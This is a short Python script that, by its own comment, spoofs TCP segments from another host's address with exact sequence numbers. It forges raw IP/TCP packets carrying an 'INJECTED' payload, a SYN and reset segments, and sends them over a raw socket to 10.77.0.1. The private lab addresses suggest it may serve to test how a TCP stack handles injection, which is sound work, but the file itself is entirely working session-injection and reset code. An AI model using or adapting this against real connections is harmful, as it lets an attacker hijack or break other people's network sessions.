# Spoofs segments from bob's address with exact sequence numbers: RST, SYN, data.
import socket, struct, sys
sport, dport, seq, ack = map(int, sys.argv[1:5])
src, dst = socket.inet_aton("10.77.0.2"), socket.inet_aton("10.77.0.1")
def csum(b):
    b += b"\0" * (len(b) % 2)
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return ~t & 0xffff
def segment(flags, payload=b"", s=seq):
    h = struct.pack("!HHIIBBHHH", sport, dport, s & 0xffffffff, ack, 5 << 4, flags, 65535, 0, 0)
    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(h) + len(payload)) + h + payload)
    return h[:16] + struct.pack("!H", c) + h[18:] + payload
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for tcp in (segment(0x18, b"INJECTED"), segment(0x02), segment(0x14), segment(0x04), segment(0x04, s=seq + 8)):
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, src, dst)
    raw.sendto(ip + tcp, ("10.77.0.1", 0))
